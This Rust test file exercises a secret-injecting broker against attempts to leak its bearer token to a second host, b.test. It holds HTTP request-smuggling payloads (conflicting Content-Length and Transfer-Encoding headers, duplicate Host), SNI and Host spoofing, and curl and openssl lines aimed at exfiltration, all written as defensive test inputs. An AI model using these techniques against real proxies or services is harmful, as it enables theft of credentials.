//! Every known way to send a broker's secret elsewhere, or to have it returned.

use super::broker::VALUE;
use super::refusals;
use super::world::World;
use crate::support::{Lab, Run};

/// Sends bytes within TLS to a.test, unchanged.
fn raw(request: &str) -> String {
    format!("printf '{request}' | openssl s_client -quiet -connect a.test:8443 -servername a.test 2>/dev/null")
}

/// Runs a script with b.test allowed as well; only a.test may have received the secret.
#[track_caller]
fn kept(script: &str) -> Option<(Run, String)> {
    let lab = Lab::new();
    let world = World::new(&lab)?;
    let run = world.brokered(&lab, VALUE, "").args(["--allow", "b.test:8080,8443"]).sh(script);
    let heard = world.heard();
    assert!(heard.lines().all(|line| line.starts_with("a.test ") || !line.contains(VALUE)), "{heard}");
    Some((run, heard))
}

/// The same, and nothing was passed on; the refusal contains `words`.
#[track_caller]
fn refused(request: &str, words: &str) {
    let Some((run, heard)) = kept(&raw(request)) else { return };
    assert_eq!(heard, "", "{run:#?}");
    assert!(run.stderr.contains("403 Forbidden") && run.stderr.contains(words), "{run:#?}");
    assert!(refusals(&run, "a.test").contains(words), "{run:#?}");
}

#[test]
fn a_redirect_takes_no_secret_along() {
    let Some((run, heard)) = kept("curl -sSL --cacert ca.pem --capath /etc/ssl/certs https://a.test:8443/away") else {
        return;
    };
    assert!(run.stderr.contains("served by b.test"), "{run:#?}");
    assert!(
        heard.contains(&format!("a.test GET /away <Bearer {VALUE}>")) && heard.contains("b.test GET / <-> <->"),
        "{heard}"
    );
}

#[test]
fn another_host_in_the_request_is_refused() {
    let script = "curl -sS -H 'Host: b.test:8443' https://a.test:8443/";
    let Some((run, heard)) = kept(script) else { return };
    assert!(run.stderr.contains("the request is for `b.test:8443`, the connection for `a.test:8443`"), "{run:#?}");
    assert_eq!(heard, "");
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let weak = world.brokered(&lab, VALUE, "").weakened("egress-host").sh(script);
    assert!(world.heard().contains(&format!("b.test GET / <Bearer {VALUE}>")), "the attack proves nothing: {weak:#?}");
}

#[test]
fn another_server_name_in_tls_is_cut() {
    let script = "curl -sS -k --connect-to b.test:8443:a.test:8443 https://b.test:8443/";
    let Some((run, heard)) = kept(script) else { return };
    assert_eq!(refusals(&run, "a.test"), "the TLS server name is `b.test`, not `a.test`");
    assert_eq!(heard, "");
}

#[test]
fn a_whole_url_as_the_target_is_refused() {
    refused("GET https://b.test:8443/ HTTP/1.1\\r\\nHost: a.test:8443\\r\\n\\r\\n", "neither a path nor a URL");
    refused("GET http://a.test:8443/ HTTP/1.1\\r\\nHost: a.test:8443\\r\\n\\r\\n", "takes a path, not a URL");
}

#[test]
fn a_request_that_hides_in_the_content_of_another_is_refused() {
    refused(
        "POST / HTTP/1.1\\r\\nHost: a.test:8443\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: b.test:8443\\r\\n\\r\\n",
        "Transfer-Encoding and Content-Length together",
    );
    refused(
        "POST / HTTP/1.1\\r\\nHost: a.test:8443\\r\\nContent-Length: 1\\r\\nContent-Length: 2\\r\\n\\r\\nxx",
        "not one number",
    );
    refused("GET / HTTP/1.1\\r\\nHost: [a.test].b.test\\r\\n\\r\\n", "Host is not a host name");
    refused("GET / HTTP/1.1\\r\\nHost: a.test:8443\\r\\nHost: b.test:8443\\r\\n\\r\\n", "more than one Host");
    refused("GET / HTTP/1.1\\nHost: a.test:8443\\n\\n", "a line ends without CR");
    refused("GET / HTTP/1.1\\r\\nHost: a.test:8443\\r\\nX: y\\r\\n Authorization: z\\r\\n\\r\\n", "not as it must be");
}

#[test]
fn a_later_request_for_another_host_is_seen_too() {
    let script = raw(
        "GET /one HTTP/1.1\\r\\nHost: a.test:8443\\r\\n\\r\\nGET /two HTTP/1.1\\r\\nHost: b.test:8443\\r\\nConnection: close\\r\\n\\r\\n",
    );
    let Some((run, heard)) = kept(&script) else { return };
    assert!(!heard.contains("b.test"), "{heard}");
    assert!(refusals(&run, "a.test").contains("the request is for `b.test:8443`"), "{run:#?}");
}

#[test]
fn http_1_0_and_methods_that_give_back_are_refused() {
    refused("GET / HTTP/1.0\\r\\nHost: a.test:8443\\r\\n\\r\\n", "takes HTTP/1.1 only");
    refused("TRACE / HTTP/1.1\\r\\nHost: a.test:8443\\r\\n\\r\\n", "passes no such method on");
    refused("CONNECT b.test:8443 HTTP/1.1\\r\\nHost: b.test:8443\\r\\n\\r\\n", "CONNECT");
}

#[test]
fn a_host_of_the_brokers_is_served_by_tls_only() {
    let Some((run, heard)) = kept("curl -sS http://a.test:8443/") else { return };
    assert!(run.stderr.contains("the broker serves `a.test:8443`, and takes TLS only"), "{run:#?}");
    assert_eq!(heard, "");
}

#[test]
fn by_way_of_the_proxy_the_same_holds() {
    let script = "curl -sS -x http://198.18.0.1:3128 -p https://a.test:8443/connect; curl -sS -x socks5h://198.18.0.1:1080 https://a.test:8443/socks; \
                  curl -sS -x socks5h://198.18.0.1:1080 -H 'Host: b.test:8443' https://a.test:8443/";
    let Some((run, heard)) = kept(script) else { return };
    assert!(heard.contains(&format!("a.test GET /connect <Bearer {VALUE}>")), "{heard}\n{run:#?}");
    assert!(heard.contains(&format!("a.test GET /socks <Bearer {VALUE}>")), "{heard}\n{run:#?}");
    assert!(run.stderr.contains("the request is for `b.test:8443`"), "{run:#?}");
}

#[test]
fn a_server_that_repeats_the_secret_is_not_heard() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    // Backwards, so that the redactor of the output does not see it either.
    let script = "curl -sS --compressed https://a.test:8443/repeat | tee out | rev; wc -c <out; grep -c battery out";
    let run = world.brokered(&lab, VALUE, "").sh(script);
    assert!(run.stderr.contains("**** reraeB dias uoy"), "{run:#?}");
    assert!(run.stderr.contains("\n45\n0\n"), "the length stays: {run:#?}");
    let weak = world.brokered(&lab, VALUE, "").weakened("broker-echo").sh(script);
    assert!(weak.stderr.contains("yrettab"), "the attack proves nothing: {weak:#?}");
}

#[test]
fn what_the_sandbox_says_in_the_secrets_place_does_not_arrive() {
    let script = "curl -sS -H 'Authorization: Bearer mine' -H 'AUTHORIZATION: other' -H 'Connection: authorization' https://a.test:8443/x";
    let Some((run, heard)) = kept(script) else { return };
    assert_eq!(heard, format!("a.test GET /x <Bearer {VALUE}> <->\n"), "{run:#?}");
}

#[test]
fn no_header_makes_a_proxy_read_another_end_of_the_request() {
    let lab = Lab::new();
    let site = |address: std::net::Ipv4Addr, directory: &std::path::Path| {
        format!(
            "server {{ listen {address}:8444 ssl; server_name a.test; ssl_certificate {0}/cert.pem; ssl_certificate_key {0}/key.pem; \
             location / {{ return 200 \"connection <$http_connection> expect <$http_expect>\\n\"; }} }}\n",
            directory.display()
        )
    };
    let Some(world) = World::with_sites(&lab, site) else { return };
    let task = || world.brokered_at(&lab, VALUE, "\"a.test:8444\"", "paths = [\"/v1/*\"]\n");
    let script = "curl -sSv -H 'Connection: Content-Length, keep-alive' -H 'Expect: 100-continue' -d content \
                  https://a.test:8444/v1/a 2>&1 | grep -E 'connection <|100 Continue'; \
                  curl -sS -X GET -d content https://a.test:8444/v1/b";
    let run = task().sh(script);
    assert_eq!(
        run.stderr.replace('\r', ""),
        "< HTTP/1.1 100 Continue\nconnection <keep-alive> expect <>\n\
         brig: `API_KEY` is for some requests, and a GET with content could hide another\n",
        "{run:#?}"
    );
}
